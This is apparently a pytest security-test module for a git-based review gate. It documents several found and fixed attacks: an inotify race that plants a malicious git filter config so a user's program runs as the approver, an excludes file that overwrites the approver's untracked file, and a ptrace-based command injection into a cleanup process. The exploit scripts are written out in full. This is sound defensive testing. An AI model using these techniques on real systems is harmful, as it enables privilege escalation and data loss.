"""The review gate, attacked a twelfth time: WHAT THE LANDER'S GIT READS OR RUNS
(41e6c87: review.RunWorkspace.vetting and gate.listing_part / link_facts, the
lander's environment in workspace.Git, the helpers' scopes).

Same cast as test_review_attacks: dave (minipipe-admin) keeps /srv/git/app, with main
checked out, and reviews; alice (group minipipe) submits and may only read it. Each
test asserts the SECURE outcome. The ones marked FOUND fail against 41e6c87 (that
is the finding); the ones marked HELD document an attack that was refused.

The vet holds for every file git LISTS (links resolved as the lander since round 8)
and the gate for everything in the git directory (info/attributes, info/exclude,
shallow, alternates, commondir, config.worktree: re-asked at RunWorkspace.lander).
The findings are files the lander's git reads that nobody names: git's default
global config locations when absent at the vet (found: alice creates one between
the vet and `merge`, winning the race every time with inotify on dave's .git), and
the global excludes file, which is not config at all (found: `merge` overwrites
the approver's untracked file). Considered and not pursued: the lander's PATH
(/usr/local/bin:/usr/bin:/bin, root's in bookworm: program_part does not resolve
a bare program name, but only root, or group staff where /usr/local is made
staff-writable, can put one first on it); on_approve steps (they run as the run's
user in its checkout, after the lander's git has ended); GIT_* variables (the
lander's environment is built whole, Git.environment). The helpers' scopes held:
a removal's git, ptraced, leaves nothing in the service, and the scope stopped is
named from the pid the daemon forked.

Fixed since: the lander's git reads only the global and system config files it read
when the landing was vetted (Git.pin_config_files: GIT_CONFIG_GLOBAL is the one
default file read, or /dev/null; GIT_CONFIG_SYSTEM /dev/null when /etc/gitconfig was
not read), and updates a checked-out target with `merge --ff-only
--no-overwrite-ignore`, which never replaces an untracked file, ignored or not.
"""

# ruff: noqa: F811  (the gate fixture, imported)
from __future__ import annotations

import contextlib
from collections.abc import Iterator

import pytest

from tests.integration.conftest import wait_for

from .conftest import Box
from .test_review_attacks import (  # noqa: F401  (gate is a fixture)
    DROP,
    gate,
    plan,
    review_then_approve,
)
from .test_review_attacks6 import dave_tracks, ran_as
from .test_review_system import REPO

TEAM = "/srv/team"  # alice's: a team's shared dotfiles directory, say

# ---------------------------------------------------------------- config git reads by default

# alice's program: proof of who ran it, then a filter's job (stdin to stdout).
EVIL = f"#!/bin/sh\nid -un >> {DROP}/ran\nexec cat\n"
# The config she plants: dave's tracked `*.dat filter=lfs` then runs her program.
PLANTED = f"[filter \"lfs\"]\n\tsmudge = {TEAM}/evil\n\tclean = {TEAM}/evil\n"

# alice's watcher: inotify on dave's git directory (she may read it, so she may watch
# it: IN_OPEN names each file opened there, by anyone). The first open of `index` in
# a landing is the gate's (as her, at RunWorkspace.lander); the next is the lander's
# `ls-files` in the last vet, after its `git config --list`: then she writes her
# config where dave's git looks for one by default, before his `status` and `merge`.
WATCHER = r"""
import ctypes, os, struct, sys, time
target, text, log = sys.argv[1], sys.argv[2], sys.argv[3]
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
if libc.inotify_add_watch(fd, sys.argv[4].encode(), 0x20) < 0:  # IN_OPEN
    sys.exit(f"inotify: errno {ctypes.get_errno()}")
note = lambda what: open(log, "a").write(f"{time.monotonic():.4f} {what}\n")
note("watching")
opens, deadline = 0, time.monotonic() + 300
while time.monotonic() < deadline:
    data = os.read(fd, 65536)
    at = 0
    while at < len(data):
        _wd, mask, _cookie, length = struct.unpack_from("iIII", data, at)
        name = data[at + 16:at + 16 + length].rstrip(b"\0").decode()
        at += 16 + length
        if name != "index":
            continue
        opens += 1
        note(f"index opened ({opens})")
        if opens == 2:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as handle:
                handle.write(text)
            os.chmod(target, 0o644)
            note(f"planted {target}")
            sys.exit(0)
"""

# How dave's home reaches a place of alice's (his home 0700, as bookworm makes it):
# the link, and the file his git would read through it, absent until she writes it.
DEFAULT_CONFIGS = {
    # his ~/.config is the team's shared dotfiles directory: $XDG_CONFIG_HOME/git/config
    "xdg": ("ln -sfn /srv/team/dotconfig /home/dave/.config",
            "/srv/team/dotconfig/git/config"),
    # his ~/.gitconfig is a link to the team's file, which does not exist (yet)
    "gitconfig": ("ln -sfn /srv/team/gitconfig /home/dave/.gitconfig",
                  "/srv/team/gitconfig"),
}


@contextlib.contextmanager
def daves_default_config_is_alices_to_create(box: Box, link: str) -> Iterator[None]:
    """dave tracks `*.dat filter=lfs` and data.dat (no lfs config anywhere: git
    copies them as they are); his home is 0700 and `link` points a default config
    location of his at /srv/team (alice's, 755), where no file is yet."""
    dave_tracks(box, {".gitattributes": "*.dat filter=lfs -text\n", "data.dat": "one\n"},
                "data")
    box.sh("cd /home/dave && for f in .config .gitconfig; do "
           "[ -e $f ] || [ -L $f ] && mv $f $f.rt12 || true; done")
    box.sh(f"rm -rf {TEAM} && install -d -o alice -m 755 {TEAM} {TEAM}/dotconfig")
    box.c.write(f"{TEAM}/evil", EVIL)
    box.c.write(f"{TEAM}/watch.py", WATCHER)
    box.sh(f"chown alice: {TEAM}/evil {TEAM}/watch.py && chmod 755 {TEAM}/evil")
    box.sh(f"{link} && chmod 700 /home/dave", user="dave")
    try:
        said = box.sh(f"cd {REPO} && git config --list --show-origin", user="dave")
        assert "/srv/team" not in said.stdout, said.stdout
        yield
    finally:
        box.sh(f"pkill -u alice -f {TEAM}/watch.py", check=False)
        box.sh("cd /home/dave && rm -f .config .gitconfig && for f in .config .gitconfig; "
               "do [ -e $f.rt12 ] || [ -L $f.rt12 ] && mv $f.rt12 $f || true; done; "
               "chmod 755 /home/dave", check=False)
        box.sh(f"rm -rf {TEAM}", check=False)


@pytest.mark.parametrize("where", sorted(DEFAULT_CONFIGS))
def test_a_default_config_file_alice_creates_after_the_vet_runs_nothing_as_dave(
        gate: Box, where: str) -> None:
    """FOUND, FIXED (high where it applies: alice's program runs as dave, the approver,
    every time; needs a default config location of dave's, or a directory on the
    way to one, to lead to a place alice may write: the same precondition as
    test_review_attacks8's linked ~/.gitconfig, only with no file there yet, and
    two deterministic races she wins every time).

    The vet (RunWorkspace.vetting -> gate.listing_paths/link_facts/listing_part)
    checks the files the lander's `git config --list --show-origin --includes`
    names, and every include a listed file names, found or not. git's own default
    locations are named by nobody: `$HOME/.gitconfig` and `$XDG_CONFIG_HOME/git/
    config` (HOME/.config: the lander's environment has no XDG_CONFIG_HOME), read
    when they exist and silently skipped when missing (or unreadable: git's
    access_or_die(..., ACCESS_EACCES_OK)). So when one is absent at the vet, it is
    never resolved, and the file alice creates there a moment later is read by
    dave's `git status` and `merge --ff-only`, unvetted.

    Steps: dave tracks `*.dat filter=lfs` and data.dat (no lfs config: git copies
    them as they are), his home is 0700, and [xdg] his ~/.config is a link to the
    team's dotfiles directory /srv/team/dotconfig (alice's), or [gitconfig] his
    ~/.gitconfig is a link to /srv/team/gitconfig, which does not exist. alice's
    run appends a line to data.dat; dave reads the diff and approves. Before that,
    at her shell, alice watches dave's .git with inotify (she may read it, so she
    may watch it: IN_OPEN names each file anyone opens there): the gate's read of
    `index` (as her, in RunWorkspace.lander), then the lander's `ls-files` in the
    last vet, after its `git config --list`; then she writes `[filter "lfs"] smudge
    = /srv/team/evil` there. dave's `status` (clean) and `merge --ff-only` (smudge)
    run /srv/team/evil as dave: ran_as is ['dave', 'dave'], the run SUCCEEDED.

    Fix (review.RunWorkspace.vetting, gate.listing_paths): vet git's default config
    locations for the lander as includes are, found or not: $HOME/.gitconfig,
    $HOME/.config/git/config (or pin XDG_CONFIG_HOME in Git.environment and use
    that), /etc/gitconfig, and $GIT_DIR/config.worktree: add them to the paths
    resolved as the lander (link_facts, so a link in his 0700 home is followed)
    and checked with exposed()/fact_part. Simpler and stronger: run the lander's
    git with GIT_CONFIG_GLOBAL (and GIT_CONFIG_SYSTEM) pointing at the one file
    that exists, or /dev/null, so no file that appears later can be read."""
    box = gate
    link, target = DEFAULT_CONFIGS[where]
    with daves_default_config_is_alices_to_create(box, link):
        result = box.minipipe("submit -", check=False, input=plan("echo two >> data.dat"))
        assert result.returncode == 0, result.stderr
        run_id = int(result.stdout)
        box.wait_state(run_id, "AWAITING_REVIEW", "FAILED", "SUCCEEDED")
        # alice, at her shell, before dave approves
        box.sh(f"cd / && setsid python3 {TEAM}/watch.py {target} '{PLANTED}' {DROP}/watch "
               f"{REPO}/.git > {DROP}/watch.err 2>&1 < /dev/null &", user="alice")
        wait_for(lambda: "watching" in box.sh(f"cat {DROP}/watch", check=False).stdout, 10,
                 "alice's watcher")
        shown, run = review_then_approve(box, run_id)
        assert "+two" in shown, shown
        watched = box.sh(f"cat {DROP}/watch {DROP}/watch.err", check=False).stdout
        assert "dave" not in ran_as(box) and "root" not in ran_as(box), (
            f"alice's filter ran as {ran_as(box)} ({run['state']}: {run['reason']}); "
            f"her watcher:\n{watched}")


# ---------------------------------------------------------------- files that are not config

def test_a_global_excludes_file_alice_writes_cannot_clobber_daves_untracked_file(
        gate: Box) -> None:
    """FOUND, FIXED (low: data loss in the approver's work tree, no code runs; same
    precondition as the test above). `git merge` overwrites untracked files that
    are *ignored* (--overwrite-ignore is its default), and refuses for the others
    ("untracked working tree files would be overwritten"). What is ignored comes,
    besides the work tree's .gitignore (tracked directories: vetted) and
    .git/info/exclude (the git directory: the gate), from `core.excludesFile`,
    by default $HOME/.config/git/ignore: the vet never looks at either (it is not
    config; only core.attributesFile is pinned to /dev/null).

    Steps: dave keeps an untracked notes.txt in his checked-out work tree; his
    ~/.config is a link to the team's dotfiles directory (alice's), where she
    writes git/ignore = `notes.txt`. Her run adds notes.txt; dave approves a new
    file (without her ignore file the landing would be refused, the run back in
    review saying so). It lands: dave's notes are gone, replaced by hers.

    Fix (workspace.Git.land): `merge --ff-only --no-overwrite-ignore` (nothing the
    lander did not track is ever overwritten), or pin `-c core.excludesFile=
    /dev/null` in OWN_REPOSITORIES_ONLY; and vet a core.excludesFile the listing
    names like an include (gate.listing_paths)."""
    box = gate
    box.sh("cd /home/dave && { [ -e .config ] || [ -L .config ]; } && mv .config .config.rt12"
           " || true")
    box.sh(f"rm -rf {TEAM} && install -d -o alice -m 755 {TEAM} {TEAM}/dotconfig")
    box.sh(f"mkdir -p {TEAM}/dotconfig/git && echo notes.txt > {TEAM}/dotconfig/git/ignore",
           user="alice")
    box.sh("ln -sfn /srv/team/dotconfig /home/dave/.config && chmod 700 /home/dave && "
           f"echo 'dave: the root password is in the safe' > {REPO}/notes.txt", user="dave")
    try:
        result = box.minipipe("submit -", check=False, input=plan("echo hers > notes.txt"))
        assert result.returncode == 0, result.stderr
        shown, run = review_then_approve(box, int(result.stdout))
        assert "+hers" in shown, shown
        notes = box.sh(f"cat {REPO}/notes.txt", user="dave").stdout
        assert notes.startswith("dave:"), (
            f"dave's untracked notes.txt now holds {notes!r} ({run['state']}: "
            f"{run['reason']})")
    finally:
        box.sh(f"rm -f {REPO}/notes.txt /home/dave/.config && chmod 755 /home/dave && "
               "cd /home/dave && { [ -e .config.rt12 ] || [ -L .config.rt12 ]; } && "
               "mv .config.rt12 .config || true", check=False)
        box.sh(f"rm -rf {TEAM}", check=False)


# ---------------------------------------------------------------- the helpers' scopes

# alice's watcher: the removal's `git worktree remove` (as her, blocked reading her
# ~/.gitconfig's FIFO include) becomes `sh -c CMD` (test_review_attacks5's INJECT);
# then she drops the FIFO so the removal's later git commands go on.
REMOVAL_WATCH = r"""
while true; do
  for g in $(pgrep -u alice -f -- 'worktree remove'); do
    python3 /srv/inject.py "$g" 'cat /proc/self/cgroup > /srv/drop/hook;
        setsid sleep 1000 </dev/null >/dev/null 2>&1 &'
    rm -f /home/alice/.gitconfig
    timeout 2 sh -c ': > /home/alice/block'
    exit 0
  done
  sleep 0.05
done
"""


def test_a_worktree_removal_leaves_nothing_of_alices_behind(gate: Box) -> None:
    """HELD (the worktree removal's scope, bc9a342; the submit check's was
    attacked in test_review_attacks5). The removal is a helper forked from the
    daemon that runs git and rm as the run's user. alice's step turns the
    checkout's .git into a gitfile (`gitdir:` to the real one beside it, so the
    summary still works), which Git.remove takes for a minipipe 0.2 linked
    worktree: it then runs `git -C /srv/git/app worktree remove ...` as her. Once
    the run awaits review, her ~/.gitconfig includes a FIFO; dave rejects the run;
    the removal's git blocks on it and her watcher ptraces it into `setsid sleep
    1000 &`. That runs in minipipe-cleanup-<pid>.scope, never in
    minipipe.service's own cgroup, and the sleep goes when the daemon stops the
    scope (the helper's own unit, named from the pid it forked)."""
    from .test_review_attacks5 import INJECT, service_processes_of

    box = gate
    box.c.write("/srv/inject.py", INJECT, "0644")
    box.c.write("/srv/removal_watch.sh", REMOVAL_WATCH, "0755")
    script = ("echo v2 > VERSION && real=$MINIPIPE_WORKTREE.git && mv .git $real && "
              "echo \"gitdir: $real\" > .git")
    try:
        run_id = box.submit(plan(script))
        run = box.wait_state(run_id, "AWAITING_REVIEW", "FAILED", "SUCCEEDED")
        assert run["state"] == "AWAITING_REVIEW", run["reason"]
        box.sh("rm -f /home/alice/block && mkfifo -m 600 /home/alice/block && "
               "printf '[include]\\n\\tpath = ~/block\\n' > /home/alice/.gitconfig",
               user="alice")
        box.sh("setsid sh /srv/removal_watch.sh >/dev/null 2>&1 < /dev/null &", user="alice")
        box.minipipe(f"reject {run_id} -m no", user="dave")
        wait_for(lambda: box.sh(f"cat {DROP}/hook", check=False).stdout, 60,
                 "the worktree removal's git to be alice's shell")
        cgroup = box.sh(f"cat {DROP}/hook").stdout
        left = service_processes_of(box, "alice")
        wait_for(lambda: not box.sh("pgrep -u alice -x sleep", check=False).stdout, 60,
                 "alice's sleep to go with the removal's scope")
    finally:
        box.sh("pkill -u alice -f removal_watch.sh; pkill -u alice -x sleep", check=False)
        box.sh("rm -f /home/alice/.gitconfig /home/alice/block /srv/removal_watch.sh",
               check=False)
    assert "/minipipe.slice/minipipe-cleanup-" in cgroup, cgroup
    assert not left, f"alice's processes in minipipe.service: {left}"
